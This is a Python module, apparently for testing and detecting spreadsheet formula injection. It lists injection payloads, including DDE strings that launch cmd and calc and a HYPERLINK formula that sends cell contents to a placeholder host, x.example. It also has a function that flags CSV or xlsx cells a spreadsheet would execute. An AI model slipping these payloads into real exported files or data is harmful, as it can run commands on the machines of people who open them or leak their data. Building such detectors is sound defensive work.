"""What people have put into cells to have it run, and a look for cells that would."""

import csv
import io
import re
import zipfile

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "+1+1",
    "+cmd|'/c calc'!A0",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "=IMPORTXML(\"http://x.example\",\"//a\")",
    "=WEBSERVICE(\"http://x.example\")",
    "=DDE(\"cmd\",\"/c calc\",\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "\"=1+1",
    "'=1+1",
    "''=1+1",
    "=\"a\"&\"b\"",
    "=0x1",
    "+A1",
    "-A1",
    "=СУММ(A1:A2)",
    "=EXEC(\"calc\")",
    "=_xlfn.CONCAT(A1)",
    "{=1+1}",
)  # fmt: skip
_RUN = re.compile(r"[ \u00a0]*[=+@\t\r\n\uff1d\uff0b\uff0d\uff20]|[ \u00a0]*-(?!\d+(?:[.,]\d+)?$)")


def live_cells(content, form):
    """List what a spreadsheet would run, whichever sign parts its lists."""
    if form == "xlsx":
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            sheets = [parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
            links = [name for name in parts.namelist() if "_rels/sheet" in name or "external" in name.lower()]
        assert sheets
        return [*re.findall(r"<f[ >][^<]*", "".join(sheets)), *links]
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    # A list separator of a semicolon parts our cells once more.
    pieces = [piece for cell in cells for piece in re.split(r"[;\t\r\n]", cell)]
    return [cell for cell in [*cells, *pieces] if _RUN.match(cell)]
